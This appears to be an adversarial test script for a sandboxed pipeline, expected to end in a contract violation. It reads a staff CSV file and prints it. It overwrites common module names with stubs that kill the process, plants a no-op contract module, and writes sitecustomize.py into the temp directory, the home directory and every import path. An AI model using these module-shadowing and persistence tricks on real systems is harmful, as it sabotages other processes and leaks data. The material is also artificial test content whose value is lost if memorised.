"""Leave modules under the names of those that the last stage imports, wherever a path might lead there.

ends: CONTRACT_VIOLATED
"""

import os
import sys

secret = open("staff.csv").read()
code = "import os\nos._exit(0)\n"
for name in ("json", "csv", "secrets", "pathlib", "sitecustomize", "usercustomize", "contract", "deliver"):
    with open(f"{name}.py", "w") as file:
        file.write(code)
os.makedirs("executor_svc/delivery/inside")
with open("executor_svc/delivery/inside/contract.py", "w") as file:
    file.write("def apply(parcel): pass\n")
for place in (os.environ["TMPDIR"], os.environ["HOME"], *sys.path):
    try:
        with open(os.path.join(place, "sitecustomize.py"), "w") as file:
            file.write(code)
    except OSError:
        pass
print(secret)
